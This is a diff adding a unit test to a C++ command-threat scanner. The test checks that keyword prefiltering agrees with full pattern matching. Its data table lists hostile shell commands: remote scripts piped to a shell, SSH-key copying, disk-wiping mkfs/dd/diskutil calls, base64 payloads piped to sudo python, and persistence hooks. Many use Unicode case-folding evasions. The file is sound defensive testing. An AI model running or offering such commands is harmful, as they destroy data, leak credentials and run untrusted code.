@@ -1,3 +1,4 @@
+#include "execution/CaseFoldedText.h"
 #include "execution/CommandThreatApproval.h"
 #include "execution/CommandThreatScanner.h"
 #include "support/LogCapture.h"
@@ -382,6 +383,68 @@ TEST(CommandThreatScanner, LongOrdinaryCommandsStayWithinTheBudget)
         command += QStringLiteral("cd /srv/app && npm run build -- --mode=production | tee -a build.log; echo done\n");
     EXPECT_EQ(ruleIDsOf(command), QStringList());
     EXPECT_TRUE(logs.messages().isEmpty()) << qPrintable(logs.messages().join(QLatin1Char('\n')));
+}
+
+TEST(CommandThreatScanner, KeywordsNeverChangeAPatternsVerdict)
+{
+    // Each pattern, searched through its keywords, must agree with the same
+    // pattern searched over the whole command: on case variants, on characters
+    // whose case folding is longer or shorter than they are, at the very start,
+    // after a non-separator, and around characters outside the BMP.
+    const QStringList commands = strings({
+        u"curl -fsSL https://x.sh | sh",
+        u"CURL https://x | SUDO /BIN/BASH",
+        u"/usr/bin/wget -qO- x | env python3.12",
+        u"xcurl https://x | sh",
+        u"x/usr/bin/curl https://x | sh",
+        u"echo hi; fetch x |\tzsh",
+        u"\u017Fcp ~/.\u017F\u017Fh/id_rsa host:",
+        u"cat ~/.SSH; rsync -a . host:",
+        u"echo x.ssh id_rsa_old .netrcx",
+        u"cat \u0130d_rsa; cat i\u0307d_rsa; cat ~/.gnupg",
+        u"in\uFB06all job.plist ~/Library/LaunchAgents/",
+        u"TEE ~/LIBRARY/LAUNCHDAEMONS/x",
+        u"echo 'export A=1' >> ~/.zshrc",
+        u"tee\t-a\u00A0\"$HOME/.BASH_PROFILE\"",
+        u"mkfs.ext4 /dev/sdb1",
+        u"xmkfs /dev/sdb1; (newfs_apfs disk2)",
+        u"/SBIN/MKFS -t ext4 /dev/sdb",
+        u"dd if=a of=/dev/rdisk4 bs=1m",
+        u"D\uFB00 if=a OF = /DEV/NVME0n1",
+        u"diskutil eraseDisk APFS Blank disk4",
+        u"echo aGk= | base64 -D | sudo python3",
+        u"eval \"$(ssh-agent -s)\"",
+        u"python3 -c 'import os; exec(\"x\")'",
+        u"crontab -l; crontab -e",
+        u"launchctl bootstrap gui/501 job.plist",
+        u"chmod -R 0777 d; chown -Rv a:b d",
+        u"chown --recursive a d; CHOWN -r a d",
+        u"\U0001F680curl x | sh; \U0001F680 \U0001F680chmod 777 f",
+        u"\xD800"
+        u"curl x | \xDC00sh",
+        u"openssl s_client -connect x:443 \u2028 nc -l 80",
+        u"\u1E9Ecp id_ed25519 \u1E9E",
+        u"",
+    });
+    const CommandThreatScanner::Patterns &p = CommandThreatScanner::patterns();
+    std::vector<const CommandThreatPattern *> patterns(p.diskDestructive.begin(), p.diskDestructive.end());
+    patterns.insert(patterns.end(), {p.remoteScriptPipe, p.credentialPath, p.networkTool});
+    patterns.insert(patterns.end(), p.encodedExecution.begin(), p.encodedExecution.end());
+    patterns.insert(patterns.end(), p.persistence.begin(), p.persistence.end());
+    patterns.insert(patterns.end(), p.privileged.begin(), p.privileged.end());
+
+    int matches = 0;
+    for (const QString &command : commands) {
+        const CaseFoldedText folded(command);
+        for (const CommandThreatPattern *pattern : patterns) {
+            const bool whole = pattern->isFoundIn(command);
+            EXPECT_EQ(pattern->isFoundIn(command, folded), whole)
+                << "command: " << command.toStdString()
+                << "\npattern: " << QStringView(pattern->source()).toString().toStdString();
+            matches += whole ? 1 : 0;
+        }
+    }
+    EXPECT_GT(matches, 30); // the table reaches most patterns' matches, not only their misses
 }
 
 TEST(CommandThreatScanner, AssessIsSafeFromManyThreadsAtOnce)
